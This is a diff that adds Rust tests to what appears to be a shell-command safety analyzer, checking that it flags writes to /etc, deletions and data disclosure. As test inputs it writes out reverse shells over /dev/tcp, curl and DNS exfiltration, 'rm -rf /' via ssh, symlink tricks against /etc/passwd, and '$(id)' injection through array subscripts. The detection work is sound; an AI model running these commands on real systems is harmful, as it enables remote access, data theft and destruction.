@@ -487,3 +487,59 @@ fn everyday_commands_are_fully_known() {
         .collect();
     assert!(unknown.is_empty(), "{}", unknown.join("\n"));
 }
+
+#[test]
+fn links_made_on_the_way_are_followed() {
+    finds("ln -s /etc x; echo hi > x/passwd", "write /etc/passwd");
+    finds("ln -s /etc x && cp f x/passwd", "write /etc/passwd");
+    finds("ln -s / r; rm -rf r/usr/", "delete /usr");
+    finds("mkdir d; ln -s ../../etc d/l; echo > d/l/x", "write /etc/x");
+    finds("ln -s /etc a; ln -s a b; echo > b/x", "write /etc/x");
+    let harmless = lines("ln -sfn releases/1 current && ls current/ && rm current");
+    assert!(!harmless.contains("delete /w/releases"), "{harmless}");
+}
+
+#[test]
+fn connections_of_the_shell_itself() {
+    opaque("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");
+    opaque("sh < /dev/tcp/192.0.2.1/4444");
+    finds("cat x > /dev/tcp/192.0.2.1/80", "Disclose");
+    opaque("ssh example.com <<X\nrm -rf /\nX");
+    quiet("echo x 2>&1 >f");
+}
+
+#[test]
+fn data_in_addresses_is_sent() {
+    finds(r#"curl "http://example.com/?k=$(cat x)""#, "Disclose");
+    finds("curl -H \"X: $(cat x)\" http://example.com", "Disclose");
+    finds("k=$(cat x); curl http://example.com/$k", "Disclose");
+    finds("dig $(cat x).example.com", "Disclose");
+    for harmless in [
+        r#"curl "http://localhost:3000/?k=$(cat x)""#,
+        r#"curl "http://example.com/?k=$(date +%s)""#,
+        "curl -H \"X: $TOKEN\" http://example.com/a",
+    ] {
+        assert!(!lines(harmless).contains("Disclose"), "{harmless}");
+    }
+}
+
+#[test]
+fn builtins_that_set_names_and_read_numbers() {
+    for text in [
+        "mapfile -C 'unheard-of' -c 1 x < f",
+        "hash -p ./x ls",
+        "read PATH < x; ls",
+        "IFS=: read -r a LD_PRELOAD < x",
+        "printf -v PATH .; ls",
+        "for PATH in ./bin; do ls; done",
+        "x='a[$(id)]'; echo $((x))",
+        "declare -i y='a[$(id)]'",
+        "unset 'x[$(id)]'",
+        "test -v 'x[$(id)]'",
+        "printf -v 'x[$(id)]' a",
+    ] {
+        opaque(text);
+    }
+    quiet("read -r a b < x; mapfile -t lines < f; echo ${lines[0]}");
+    quiet("for CC in gcc clang; do $CC --version; done; printf '%s\\n' 'a[0]'");
+}
